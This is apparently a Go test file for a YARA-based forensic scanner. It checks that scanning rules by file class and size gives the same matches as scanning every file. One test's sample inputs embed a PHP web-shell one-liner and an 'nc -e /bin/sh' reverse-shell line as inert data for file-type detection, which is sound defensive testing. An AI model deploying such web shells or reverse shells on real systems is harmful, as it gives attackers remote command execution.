package signatures

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"math"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/strata-forensics/strata/signatures/rulegen"

	yara "github.com/hillu/go-yara/v4"
)

func TestConditionAllows(t *testing.T) {
	const max = math.MaxInt64
	all, mz, elf, other := magicAll, magicMZ, magicELF, magicOther
	tests := []struct {
		cond string
		want allows
	}{
		{"uint16(0) == 0x5A4D and filesize < 100KB and 1 of them", allows{{mz, 2, 100*1024 - 1}}},
		{"uint16be(0) == 0x4d5a and $a", allows{{mz, 2, max}}},
		{"0x5a4d == uint16(0)", allows{{mz, 2, max}}},
		{"uint32(0) == 0x464c457f and filesize <= 2MB", allows{{elf, 4, 2 << 20}}},
		{"uint32be(0) == 0x7F454C46", allows{{elf, 4, max}}},
		{"uint16(0) == 0x457f", allows{{elf | other, 2, max}}}, // "\x7fE": an ELF file or another
		{"uint8(0) == 0x4d", allows{{mz | other, 1, max}}},
		{"uint32(0) == 0x04034b50 and $a at 0", allows{{other, 4, max}}},
		{"uint16(0) != 0x5a4d and $a", allows{{elf | other, 0, max}}},
		{"not uint16(0) == 0x5A4D and $a", allows{{elf | other, 0, max}}},
		{"not uint16(0) != 0x5A4D", allows{{mz, 2, max}, {all, 0, 1}}},
		{"not ( uint16(0) == 0x5a4d or uint32(0) == 0x464c457f ) and $a", allows{{other, 0, max}}},
		{"not ( uint16(0) == 0x5a4d or $a )", allows{{all, 0, max}}},
		{"not ( uint16(0) == 0x5a4d ) and filesize < 10", allows{{elf | other, 0, 9}}},
		{"uint32(0) != 0x11223344", allows{{all, 0, max}}},
		{"uint16(0) == 0x5a4d or uint32(0) == 0x464c457f", allows{{mz, 2, max}, {elf, 4, max}}},
		{"( uint16(0) == 0x5a4d or uint32(0) == 0x464c457f ) and filesize > 1KB", allows{{mz, 1025, max}, {elf, 1025, max}}},
		{"filesize > 10 and filesize < 20", allows{{all, 11, 19}}},
		{"100 > filesize", allows{{all, 0, 99}}},
		{"filesize == 1234 and hash.md5(0, filesize) == \"x\"", allows{{all, 1234, 1234}}},
		{"filesize < 0", allows{}},
		{"filesize < 2 * 1024", allows{{all, 0, max}}}, // arithmetic: not read
		{"filetype == \"PE\" and $a", allows{{mz, 2, max}}},
		{"\"ELF\" == filetype", allows{{elf, 4, max}}},
		{"filetype == \"script\"", allows{{mz | other, 0, max}}},
		{"filetype == \"PHP\" and filesize < 100KB", allows{{mz | other, 0, 100*1024 - 1}}},
		{"filetype == \"binary\"", allows{{all, 0, max}}},
		{"filetype != \"PHP\"", allows{{all, 0, max}}},
		{"pe.is_pe and pe.number_of_sections > 3", allows{{mz, 2, max}}},
		{"uint16(0) == 0x5a4d == true", allows{{all, 0, max}}},
		{"uint16(2) == 0x5a4d", allows{{all, 0, max}}},
		{"uint16(0) == 0x15a4d", allows{{all, 0, max}}},
		{"$a or uint16(0) == 0x5a4d", allows{{all, 0, max}, {mz, 2, max}}},
		{"for any i in ( 0 .. 3 ) : ( uint16(i) == 0x5a4d ) and filesize < 1MB", allows{{all, 0, 1<<20 - 1}}},
	}
	for _, tt := range tests {
		src := "import \"pe\"\nimport \"hash\"\nrule r { strings: $a = \"x\" condition: " + tt.cond + " }"
		f, err := splitRules([]byte(src))
		if err != nil {
			t.Fatalf("%s: %v", tt.cond, err)
		}
		got := f.rules[0].allows
		if !slices.Equal(got, tt.want) && !(len(got) == 0 && len(tt.want) == 0) {
			t.Errorf("%s:\n got %v\nwant %v", tt.cond, got, tt.want)
		}
	}
}

func TestSplitRules(t *testing.T) {
	src := `import "pe"
import "math"
/* a comment with rule x { } and "quotes */
// rule y { condition: true }
global private rule G { condition: filesize < 1MB }
private rule MZ { condition: uint16(0) == 0x5A4D }
rule A : tag1 tag2 {
  meta:
    description = "braces } { and rule words"
    score = -1
  strings:
    $a = "a } \" {" ascii wide
    $b = { 4D 5A ?? [2-4] ( 90 | 00 ) }
    $c = /ab\/c}[a-z]{2}/is
    $d = "x" xor(0x01-0xff)
  condition:
    MZ and pe.number_of_sections > 1 and any of them
}
rule B { condition: A and math.entropy(0, filesize) > 7 }
rule C { strings: $s = "y" condition: $s and filepath matches /\/tmp\// }
`
	f, err := splitRules([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(f.imports, []string{"pe", "math"}) {
		t.Errorf("imports: %v", f.imports)
	}
	var names []string
	for _, r := range f.rules {
		names = append(names, r.name)
	}
	if !slices.Equal(names, []string{"G", "MZ", "A", "B", "C"}) {
		t.Fatalf("rules: %v", names)
	}
	byName := map[string]ruleText{}
	for _, r := range f.rules {
		byName[r.name] = r
	}
	if a := byName["A"]; !slices.Equal(a.deps, []int{0, 1}) || !slices.Equal(a.modules, []string{"pe"}) ||
		!slices.Equal(a.allows, allows{{magicMZ, 2, 1<<20 - 1}}) {
		t.Errorf("A: deps %v modules %v allows %v", a.deps, a.modules, a.allows)
	}
	if b := byName["B"]; !slices.Equal(b.deps, []int{0, 1, 2}) || !slices.Equal(b.modules, []string{"math"}) ||
		!slices.Equal(b.allows, allows{{magicMZ, 2, 1<<20 - 1}}) {
		t.Errorf("B: deps %v modules %v allows %v", b.deps, b.modules, b.allows)
	}
	if c := byName["C"]; !c.idents["filepath"] || !slices.Equal(c.deps, []int{0}) {
		t.Errorf("C: idents %v deps %v", c.idents, c.deps)
	}
	if got := src[byName["A"].start:byName["A"].end]; !strings.HasPrefix(got, "rule A") || !strings.HasSuffix(got, "any of them\n}") {
		t.Errorf("A's text: %q", got)
	}
	for _, bad := range []string{`include "other.yar"` + "\nrule a { condition: true }", "rule a { condition: true", `rule a { strings: $a = "x`} {
		if _, err := splitRules([]byte(bad)); err == nil {
			t.Errorf("%q split", bad)
		}
	}
}

// boundaryRules are conditions at the edges of the classes, for the files boundaryFiles makes.
const boundaryRules = `
import "pe"
global private rule Not_Huge { condition: filesize < 20MB }
private rule Is_MZ { condition: uint16(0) == 0x5A4D }
rule Small_Text { strings: $a = "strata" condition: filesize <= 65536 and $a }
rule Big_Text { strings: $a = "strata" condition: filesize > 65536 and $a }
rule Exact { condition: filesize == 65537 }
rule MZ_Only { strings: $a = "strata" condition: Is_MZ and $a }
rule M_Byte { condition: uint8(0) == 0x4d and filesize < 3 }
rule Not_MZ { condition: not uint16(0) == 0x5A4D and filesize < 2 }
rule Not_Not_MZ { condition: not uint16(0) != 0x5A4D and filesize < 2 }
rule Not_MZ_Or_ELF { condition: not ( uint16(0) == 0x5A4D or uint32(0) == 0x464c457f ) and filesize < 5 }
rule ELF_Or_Tiny { condition: uint32be(0) == 0x7F454C46 or filesize < 4 }
rule PE_Module { condition: pe.is_pe or uint32(0) == 0x464c457f }
rule Nothing_Known { strings: $a = "strata" condition: #a > 1 }
`

// boundaryFiles are files at the edges of the classes: sizes at the bucket limits, short
// magic prefixes, MZ and ELF heads.
func boundaryFiles() map[string][]byte {
	fill := func(head string, n int) []byte {
		b := bytes.Repeat([]byte("x"), n)
		copy(b, head)
		copy(b[n/2:], "strata strata")
		return b
	}
	out := map[string][]byte{"empty": {}, "M": []byte("M"), "MZ": []byte("MZ"), "MZx": []byte("MZx"), "Z": []byte("Z"),
		"elf3": []byte("\x7fEL"), "elf4": []byte("\x7fELF"), "tiny": []byte("abc")}
	for _, n := range []int{64<<10 - 1, 64 << 10, 64<<10 + 1, 1 << 20, 1<<20 + 1, 8 << 20, 8<<20 + 1, 20<<20 - 1, 20 << 20} {
		out[fmt.Sprintf("text-%d", n)] = fill("strata", n)
		out[fmt.Sprintf("mz-%d", n)] = fill("MZ", n)
		out[fmt.Sprintf("elf-%d", n)] = fill("\x7fELF", n)
	}
	return out
}

// scanBoth scans data with both rule sets and reports a difference.
func scanBoth(t *testing.T, scoped, plain *Scanner, name string, data []byte) (matched int, differ bool) {
	info := FileInfo{Path: "/" + name}
	a, errA := scoped.Scan(info, data)
	b, errB := plain.Scan(info, data)
	if errA != nil || errB != nil {
		if (errA == nil) != (errB == nil) {
			t.Errorf("%s: scoped error %v, unscoped %v", name, errA, errB)
			return 0, true
		}
		return 0, false
	}
	key := func(ms []Match) []string {
		var out []string
		for _, m := range ms {
			s := m.Rule.Namespace + ":" + m.Rule.Name
			for _, ms := range m.Strings {
				s += fmt.Sprintf(" %s@%d", ms.ID, ms.Offset)
			}
			out = append(out, s)
		}
		slices.Sort(out)
		return out
	}
	ka, kb := key(a), key(b)
	if !slices.Equal(ka, kb) {
		t.Errorf("%s (%d bytes): scoped %v, unscoped %v", name, len(data), ka, kb)
		return len(kb), true
	}
	return len(kb), false
}

func compileBoth(t *testing.T, paths []string) (scoped, plain *RuleSet) {
	t.Helper()
	scoped, err := Compile(Options{Paths: paths, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(scoped.Close)
	plain, err = Compile(Options{Paths: paths, NoBuiltin: true, noScope: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(plain.Close)
	return scoped, plain
}

func scanners(t *testing.T, a, b *RuleSet) (*Scanner, *Scanner) {
	sa, err := a.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	sb, err := b.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	return sa, sb
}

// TestScopedBoundaries checks scoping at the edges of its classes with rules written for them:
// the scoped sets report what one set over every file reports, and what the rules say.
func TestScopedBoundaries(t *testing.T) {
	p := filepath.Join(t.TempDir(), "boundary.yar")
	if err := os.WriteFile(p, []byte(boundaryRules), 0o644); err != nil {
		t.Fatal(err)
	}
	scoped, plain := compileBoth(t, []string{p})
	if len(scoped.user.sets) < 2 {
		t.Fatalf("the boundary rules compiled into %d sets", len(scoped.user.sets))
	}
	sa, sb := scanners(t, scoped, plain)
	defer sa.Close()
	defer sb.Close()
	files := boundaryFiles()
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	got := map[string][]string{}
	for _, n := range names {
		scanBoth(t, sa, sb, n, files[n])
		ms, _ := sa.Scan(FileInfo{Path: "/" + n}, files[n])
		for _, m := range ms {
			got[m.Rule.Name] = append(got[m.Rule.Name], n)
		}
	}
	want := map[string][]string{
		"Small_Text": {"elf-65535", "elf-65536", "mz-65535", "mz-65536", "text-65535", "text-65536"},
		"Big_Text": {"elf-1048576", "elf-1048577", "elf-20971519", "elf-65537", "elf-8388608", "elf-8388609", "mz-1048576", "mz-1048577", "mz-20971519", "mz-65537",
			"mz-8388608", "mz-8388609", "text-1048576", "text-1048577", "text-20971519", "text-65537", "text-8388608", "text-8388609"},
		"Exact":         {"elf-65537", "mz-65537", "text-65537"},
		"M_Byte":        {"M", "MZ"},
		"Not_MZ":        nil, // uint16(0) is undefined on one byte, and "not" of that is not true
		"Not_Not_MZ":    nil,
		"Not_MZ_Or_ELF": {"M", "Z", "elf3", "empty", "tiny"}, // short: the readers are undefined, "or" takes that as false
		"ELF_Or_Tiny":   {"M", "MZ", "MZx", "Z", "elf-1048576", "elf-1048577", "elf-20971519", "elf-65535", "elf-65536", "elf-65537", "elf-8388608", "elf-8388609", "elf3", "elf4", "empty", "tiny"},
		"Nothing_Known": {"elf-1048576", "elf-1048577", "elf-20971519", "elf-65535", "elf-65536", "elf-65537", "elf-8388608", "elf-8388609", "mz-1048576", "mz-1048577", "mz-20971519", "mz-65535", "mz-65536", "mz-65537", "mz-8388608", "mz-8388609", "text-1048576", "text-1048577", "text-20971519", "text-65535", "text-65536", "text-65537", "text-8388608", "text-8388609"},
	}
	for rule, files := range want {
		if !slices.Equal(got[rule], files) {
			t.Errorf("%s matched %v, want %v", rule, got[rule], files)
		}
	}
	if len(got["MZ_Only"]) != 8 {
		t.Errorf("MZ_Only matched %v", got["MZ_Only"])
	}
	// The global rule bounds every rule below 20 MB: files that big go to libyara not at all.
	for c := 0; c < numClasses; c++ {
		if len(scoped.user.class[c]) == 0 {
			t.Errorf("class %d: no set", c)
		}
		for _, p := range scoped.user.class[c] {
			if p.Size[1] > 20<<20-1 {
				t.Errorf("class %d: set %d sizes %v, want below 20 MB", c, p.Set, p.Size)
			}
		}
	}
}

// scopeTrees are real file trees the generated rules are run on: Go's own tree (PE, ELF and
// Mach-O test files, sources, scripts), always there, and Debian's minbase root filesystem
// and the clean corpora when the cache holds them.
func scopeTrees(t *testing.T) (dirs []string, tars []string) {
	goroot, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	root := strings.TrimSpace(string(goroot))
	for _, d := range []string{"src/debug", "src/internal/xcoff", "src/archive", "src/compress", "src/net/http", "misc", "lib", "bin"} {
		dirs = append(dirs, filepath.Join(root, d))
	}
	cache := os.Getenv("STRATA_DEBIAN_CACHE")
	if cache == "" {
		cache = filepath.Join("..", ".cache", "debian")
	}
	if p := filepath.Join(cache, "bookworm-minbase.tar"); fileExists(p) {
		tars = append(tars, p)
	} else {
		t.Logf("no %s: the Debian root filesystem is left out", p)
	}
	for _, c := range []string{"wordpress", "tomcat10-examples"} {
		if p := filepath.Join("..", ".cache", "corpus", c); fileExists(p) {
			dirs = append(dirs, p)
		}
	}
	return dirs, tars
}

func fileExists(p string) bool {
	_, err := os.Stat(p)
	return err == nil
}

// TestScopedMatchesUnscoped runs a generated public-style rule set of rulegen.DefaultFiles
// files over real file trees twice, scoped per class of file and as one set over every file,
// and requires the same matches file by file.
func TestScopedMatchesUnscoped(t *testing.T) {
	if testing.Short() {
		t.Skip("scans real trees with 3,000 rules twice")
	}
	dir := t.TempDir()
	if _, err := rulegen.Write(dir, rulegen.DefaultFiles, 1); err != nil {
		t.Fatal(err)
	}
	scoped, plain := compileBoth(t, []string{dir})
	if len(scoped.Rules()) != len(plain.Rules()) || len(scoped.user.sets) < 3 {
		t.Fatalf("scoped: %d rules in %d sets; unscoped %d rules", len(scoped.Rules()), len(scoped.user.sets), len(plain.Rules()))
	}
	type file struct {
		name string
		data []byte
	}
	jobs := make(chan file, 16)
	var (
		mu                      sync.Mutex
		files, matched, skipped int
		byClass                 = map[int]int{}
		differing               int
		wg                      sync.WaitGroup
	)
	for w := 0; w < 2; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sa, sb := scanners(t, scoped, plain)
			defer sa.Close()
			defer sb.Close()
			for f := range jobs {
				n, differ := scanBoth(t, sa, sb, f.name, f.data)
				c := classOf(f.data)
				mu.Lock()
				files++
				matched += n
				if n > 0 {
					byClass[c] += n
				}
				vals, _ := externalValues(FileInfo{Path: "/" + f.name}, f.data)
				if !slices.ContainsFunc(scoped.user.class[c], func(p userPart) bool {
					n := int64(len(f.data))
					return n >= p.Size[0] && n <= p.Size[1] && (scoped.user.pre[p.Set] == nil || scoped.user.pre[p.Set].may(vals[0], vals[1], f.data))
				}) {
					skipped++
				}
				if differ {
					differing++
				}
				mu.Unlock()
			}
		}()
	}
	dirs, tars := scopeTrees(t)
	for _, d := range dirs {
		filepath.WalkDir(d, func(p string, de fs.DirEntry, err error) error {
			if err != nil || !de.Type().IsRegular() {
				return nil
			}
			if b, err := os.ReadFile(p); err == nil && len(b) <= 32<<20 {
				jobs <- file{p, b}
			}
			return nil
		})
	}
	for _, p := range tars {
		f, err := os.Open(p)
		if err != nil {
			t.Fatal(err)
		}
		tr := tar.NewReader(f)
		for {
			h, err := tr.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("reading %s: %v", p, err)
			}
			if h.Typeflag != tar.TypeReg || h.Size > 32<<20 {
				continue
			}
			b, err := io.ReadAll(tr)
			if err != nil {
				t.Fatalf("reading %s: %v", p, err)
			}
			jobs <- file{p + ":" + h.Name, b}
		}
		f.Close()
	}
	close(jobs)
	wg.Wait()
	t.Logf("%d files, %d matches (MZ %d, ELF %d, other %d), %d files no user rule can match, %d differ",
		files, matched, byClass[0], byClass[1], byClass[2], skipped, differing)
	// The comparison means something only if the rules fire on every class.
	if byClass[0] == 0 || byClass[1] == 0 || byClass[2] == 0 {
		t.Errorf("the generated rules matched MZ %d, ELF %d and other %d times: want matches in every class", byClass[0], byClass[1], byClass[2])
	}
}

// Scoping leaves a rule that wants a filetype other than ELF or binary out of the ELF class's
// sets: it holds only while every file with the ELF magic is typed ELF or binary, whatever
// follows the magic and whatever the file is called.
func TestELFMagicTypes(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	tails := []string{"", "\x01", "<?php system($_GET['c']); ?>", "#!/bin/sh\nnc -e /bin/sh h 1\n", "<%@ page import=\"java.io.*\" %>",
		"\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00", "\x02\x01\x01" + strings.Repeat("\x00", 9) + "\x04\x00>\x00<?php"}
	names := []string{"", "x.php", "shell.jsp", "run.sh", "libx.so.1", "/usr/bin/x", "a.aspx", "README"}
	for range 2000 {
		tail := tails[rng.Intn(len(tails))]
		if rng.Intn(2) == 0 {
			b := make([]byte, rng.Intn(600))
			rng.Read(b)
			if rng.Intn(2) == 0 {
				for i := range b {
					b[i] = ' ' + b[i]%95 // printable: text after the magic
				}
			}
			tail += string(b)
		}
		data := []byte("\x7fELF" + tail)
		name := names[rng.Intn(len(names))]
		ft, _ := detect(data, name)
		if classOf(data) != 1 || ft != TypeELF && ft != TypeBinary {
			t.Fatalf("%q named %q: class %d, filetype %q", data, name, classOf(data), ft)
		}
	}
}

// TestModuleConjunctsSound: every conjunct over a pe, dotnet or elf field that scoping reads as
// allowing only that format's class (moduleAllows) is false, as libyara evaluates it, on files
// of every other class; and the conjuncts that could turn an undefined value into a defined
// one are not read so.
func TestModuleConjunctsSound(t *testing.T) {
	bound := map[string][]string{
		"pe": {
			`pe.number_of_sections > 3`, `pe.number_of_sections < 100`, `pe.number_of_exports == 1`,
			`pe.exports("WaitPrompt")`, `not pe.exports("WaitPrompt")`, `pe.exports("Crash") & pe.characteristics`,
			`pe.imphash() == "e9478ee4ebf085d1f14f64ba96ef082f"`, `pe.imphash() != "e9478ee4ebf085d1f14f64ba96ef082f"`,
			`pe.version_info["CompanyName"] contains "Microsoft"`, `not pe.version_info["CompanyName"] contains "Microsoft"`,
			`pe.is_dll()`, `not pe.is_dll()`, `pe.is_32bit()`, `not pe.is_64bit()`, `pe.characteristics & pe.DLL`,
			`pe.timestamp > 0`, `pe.timestamp != 1`, `pe.machine == pe.MACHINE_AMD64`, `pe.machine != pe.MACHINE_AMD64`,
			`pe.number_of_signatures == 0`, `pe.number_of_signatures != 1`, `pe.sections[0].name == ".text"`,
			`pe.sections[0].name != ".text"`, `pe.section_index(".text") >= 0`, `pe.entry_point < 0x1000`,
			`pe.number_of_resources == 0`, `pe.subsystem == pe.SUBSYSTEM_WINDOWS_GUI`, `pe.dll_characteristics & 0x40 == 0`,
			`pe.pdb_path contains "x"`, `pe.number_of_imports < 5`, `pe.imports("kernel32.dll", "Sleep")`,
			`not pe.imports("kernel32.dll", "Sleep")`, `pe.linker_version.major != 6`, `uint32(pe.entry_point) != 1`,
			`pe.rich_signature.version(1) == 0`, `-pe.timestamp < 1`, `not not pe.is_dll()`,
			`for any i in ( 0 .. pe.number_of_signatures ) : ( true )`, `for 1 i in ( 0 .. pe.number_of_resources - 1 ) : ( true )`,
			`for any i in ( 0 .. pe.number_of_signatures - 1 ) : ( pe.signatures[i].subject contains "x" or true )`,
			`for any i in ( pe.number_of_sections .. 3 ) : ( not false )`,
		},
		"dotnet": {`dotnet.version == "v4.0.30319"`, `dotnet.number_of_resources > 0`, `dotnet.assembly.name != "x"`,
			`not dotnet.number_of_streams > 1`},
		"elf": {`elf.type == elf.ET_EXEC`, `elf.type != elf.ET_EXEC`, `elf.number_of_sections == 0`,
			`elf.machine == elf.EM_X86_64`, `not elf.number_of_sections > 3`, `elf.entry_point != 0`,
			`elf.sections[0].name == ".text"`, `elf.sections[0].name != ".text"`},
	}
	unbound := []string{`pe.is_pe`, `pe.DLL == 0x2000`, `not pe.is_pe`, `$a at pe.entry_point`, `#a == pe.number_of_sections`,
		`for all i in ( 0 .. pe.number_of_sections - 1 ) : ( false )`, `for none i in ( 0 .. pe.number_of_sections ) : ( true )`,
		`for 0 i in ( 0 .. pe.number_of_sections ) : ( true )`, `for any i in ( 0 .. 3 ) : ( true )`, `math.entropy(0, filesize) > 7`,
		`(pe.number_of_sections > 3 and true) == false`}
	const imports = "import \"pe\"\nimport \"elf\"\nimport \"dotnet\"\nimport \"math\"\n"
	reads := func(cond string) (allows, bool) {
		f, err := splitRules([]byte(imports + "rule r { strings: $a = \"x\" condition: " + cond + " }"))
		if err != nil {
			t.Fatalf("%s: %v", cond, err)
		}
		return moduleAllows(split(f.rules[0].cond, "and")[0], f.imports)
	}
	for _, cond := range unbound {
		if a, ok := reads(cond); ok {
			t.Errorf("%s is read as allowing %v only", cond, a)
		}
	}
	// Files of every class: ELF binaries of this machine, MZ headers that are no PE, text,
	// random bytes, nothing.
	rng := rand.New(rand.NewSource(7))
	files := map[int][][]byte{}
	for _, p := range []string{"/bin/ls", "/bin/sh", "/usr/bin/env"} {
		if b, err := os.ReadFile(p); err == nil {
			files[classOf(b)] = append(files[classOf(b)], b)
		}
	}
	for i := 0; i < 20; i++ {
		b := make([]byte, rng.Intn(5000))
		rng.Read(b)
		files[classOf(b)] = append(files[classOf(b)], b)
		mz := append([]byte("MZ"), b...)
		files[0] = append(files[0], mz)
		elfish := append([]byte("\x7fELF\x02\x01\x01"), b...)
		files[1] = append(files[1], elfish)
	}
	files[2] = append(files[2], []byte("#!/bin/sh\necho hello\n"), nil)
	if len(files[1]) < 3 {
		t.Fatal("no ELF file to scan")
	}
	for module, conds := range bound {
		want := moduleClasses[module]
		for _, cond := range conds {
			if a, ok := reads(cond); !ok || !slices.Equal(a, allows{want}) {
				t.Errorf("%s: read as %v (%v), want %v", cond, a, ok, want)
				continue
			}
			rules := compileSource(t, imports+"rule r { condition: "+cond+" }")
			for class, fs := range files {
				if want.mask&(1<<class) != 0 {
					continue
				}
				for _, data := range fs {
					var m yara.MatchRules
					if err := rules.ScanMem(data, 0, 0, &m); err != nil {
						t.Fatal(err)
					}
					if len(m) > 0 {
						t.Errorf("%s is true for a file of class %d (%d bytes)", cond, class, len(data))
					}
				}
			}
			rules.Destroy()
		}
	}
}

// An alternative over pe fields cannot hold for an ELF file or any other: for those classes a
// rule is gated by what its other alternatives need (its strings), not scanned with every file
// for the alternative's sake (which also loaded the pe module for every file).
func TestModuleAlternativesLeaveOtherClasses(t *testing.T) {
	src := "import \"pe\"\nrule r { strings: $a = \"unmistakable-marker\" $b = \"another-long-marker\" " +
		"condition: ( pe.number_of_exports == 1 and pe.exports(\"WaitPrompt\") ) or any of them }"
	f, err := splitRules([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	for class := 0; class < numClasses; class++ {
		n := f.ruleNeeds(map[string]*need{}, class)[0]
		gated := n != nil && n.quality() >= minWord
		if want := class != 0; gated != want {
			t.Errorf("class %d: gated %v, want %v (need %+v)", class, gated, want, n)
		}
	}
}
